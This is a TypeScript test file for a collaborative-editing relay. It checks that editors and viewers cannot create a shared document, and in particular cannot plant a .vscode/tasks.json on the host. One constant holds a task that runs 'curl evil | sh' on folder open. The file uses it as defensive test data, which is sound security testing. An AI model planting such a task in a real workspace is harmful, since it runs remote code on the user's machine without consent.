/**
 * A guest trying to choose the text of a shared file before the host opens it. A document's text
 * becomes the host's editor text, which a save writes to disk: an editor that could create the
 * document of `.vscode/tasks.json` (a task that runs on folder open) would run its code on the
 * host. Only the session's host creates documents, by any way of asking: a first open, one sent
 * in pieces, or a rejoin that claims the document was lost and uploads "its" copy.
 */
import assert from 'node:assert/strict';
import { afterEach, beforeEach, describe, it } from 'node:test';
import type { ClientPayload } from '../../../protocol';
import { clientFrame, openDocument, startTestRelay, type TestClient, type TestRelay, withoutEpoch } from '../../support/relay-fixture';

const TASKS = '.vscode/tasks.json';
const ATTACK = '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}';
const ON_DISK = '{"version":"2.0.0","tasks":[]}';

describe('a guest creating a shared document', () => {
  let relay: TestRelay;
  let host: TestClient;
  let editor: TestClient;
  let viewer: TestClient;
  beforeEach(async () => {
    relay = await startTestRelay();
    host = await relay.connect('hana', { role: 'host' });
    editor = await relay.connect('eve', { role: 'editor' });
    viewer = await relay.connect('vic', { role: 'viewer' });
  });
  afterEach(() => relay.stop());

  /** `client` opens with `payload`; the relay's answer must be DOCUMENT_NOT_FOUND and no snapshot. */
  async function refused(client: TestClient, payload: ClientPayload<'collaboration.open'>, label: string): Promise<void> {
    const errors = client.of('error').length;
    client.send(clientFrame('collaboration.open', payload));
    await client.until(() => client.of('error').length > errors || client.of('collaboration.snapshot').length > 0, `an answer to ${label}`);
    assert.deepEqual(client.of('collaboration.snapshot'), [], `${label}: no document was made`);
    const error = client.of('error').at(-1)!.payload;
    assert.equal(error.code, 'DOCUMENT_NOT_FOUND', label);
    assert.equal(error.event_type, 'collaboration.open', label);
  }

  it(
    'refuses an editor’s or a viewer’s open that would create it, however it is asked; the host’s text is what everyone ' + 'gets',
    async () => {
      await refused(editor, { document: TASKS, text: ATTACK }, 'an editor’s first open');
      editor.send(clientFrame('collaboration.open', { document: TASKS, text: ATTACK.slice(0, 40), more: true }));
      await refused(editor, { document: TASKS, text: ATTACK.slice(40) }, 'an editor’s open in pieces');
      const recovery: ClientPayload<'collaboration.open'>['recovery'] = { seq: 0, buffer: [ATTACK], history: [] };
      await refused(
        editor,
        { document: TASKS, rev: 0, client_id: 'eve-1', epoch: 'lost-epoch', text: '', recovery },
        'an editor’s rejoin of a "lost" document',
      );
      await refused(viewer, { document: TASKS, text: ATTACK }, 'a viewer’s first open');

      // Nothing of it is there: the host creates the document with its file's text.
      assert.deepEqual(withoutEpoch(await openDocument(host, TASKS, ON_DISK)), { document: TASKS, rev: 0, text: ON_DISK });
      assert.deepEqual(withoutEpoch(await openDocument(editor, TASKS)), { document: TASKS, rev: 0, text: ON_DISK });
    },
  );

  it('still lets guests join and edit a document the host created (its files that are not read-only)', async () => {
    await openDocument(host, 'src/app.ts', 'let a = 1;\n');
    const { epoch } = await openDocument(editor, 'src/app.ts');
    editor.send(
      clientFrame('collaboration.edit', {
        document: 'src/app.ts',
        rev: 0,
        client_id: 'eve-1',
        seq: 0,
        op: ['// eve\n'],
        ...(epoch && { epoch }),
      }),
    );
    assert.equal((await editor.next('collaboration.ack')).payload.rev, 1);
    assert.equal((await host.next('collaboration.edit')).user_id, 'eve');
  });

  it('refuses a rejoin that would recreate a document the relay lost, unless it comes from the host', async () => {
    const lost = { rev: 3, client_id: 'c-1', epoch: 'gone-epoch', recovery: { seq: 4, history: [] } };
    await refused(editor, { document: 'notes.md', text: 'eve’s idea of it', ...lost }, 'an editor’s rejoin');
    host.send(clientFrame('collaboration.open', { document: 'notes.md', text: 'the host’s copy', ...lost }));
    assert.equal((await host.next('collaboration.snapshot')).payload.text, 'the host’s copy');
    assert.equal(withoutEpoch(await openDocument(editor, 'notes.md')).text, 'the host’s copy');
  });
});
